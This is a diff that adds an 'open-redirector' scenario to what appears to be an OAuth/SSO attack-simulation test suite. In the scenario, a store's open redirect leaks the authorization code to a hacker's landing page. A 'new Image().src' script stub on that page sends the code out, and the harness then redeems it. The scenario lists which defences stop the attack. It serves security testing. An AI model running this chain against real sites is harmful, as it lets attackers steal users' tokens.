@@ -6,6 +6,7 @@ import { cartsOfHacker, outcome, pagesOfHacker, passwordsTold, tokensOfHacker } 
 import {
   begin,
   codeOfVictim,
+  collected,
   isCallback,
   logIn,
   parameter,
@@ -179,6 +180,37 @@ const redirectManipulation: Attack = {
   won: (trace) => outcome('redirect-manipulation', tokensOfHacker(trace)),
 }
 
+const openRedirector: Attack = {
+  id: 'open-redirector',
+  row: 'B5',
+  title: 'The Store leads on to the Hacker, code and all',
+  precondition:
+    'The Store has a link that leads anywhere, and FusionAuth takes any address of the Store.',
+  incident: incidents.covertRedirect,
+  tries: (shape) => isServerSide(shape) && shape.sso,
+  weak: () => ({
+    'return-to-allow-list': false,
+    'exact-redirect-uris': false,
+    'client-authentication': false,
+  }),
+  prelude: known,
+  stops: () => ['return-to-allow-list', 'exact-redirect-uris', 'client-authentication'],
+  helpsNot: () => ['state', 'nonce', 'iss', 'pkce', ['same-site', 'strict']],
+  play: async (scene) => {
+    const landing = scene.publish({
+      html: '<!doctype html><html lang="en"><title>Thank you</title><script data-program="open-redirector">new Image().src = …</script></html>',
+    })
+    const link = new URL('/go', scene.places.Store.origin)
+    link.searchParams.set('to', landing)
+    await scene.lure(goesTo(linkTo(scene, link.href, { response_mode: 'fragment' })))
+    const found = new URLSearchParams(collected(scene)?.slice(1) ?? '').get('code')
+    if (found === null) return
+    scene.note('reads-code', 'Reads the code in the address')
+    await redeem(scene, found, { redirect_uri: link.href })
+  },
+  won: (trace) => outcome('open-redirector', tokensOfHacker(trace)),
+}
+
 const pkceDowngrade: Attack = {
   id: 'pkce-downgrade',
   row: 'B7',
@@ -247,6 +279,7 @@ export const codes: readonly Attack[] = [
   codeInjection,
   loginCsrf,
   redirectManipulation,
+  openRedirector,
   pkceDowngrade,
   codeReplay,
   redirect307,
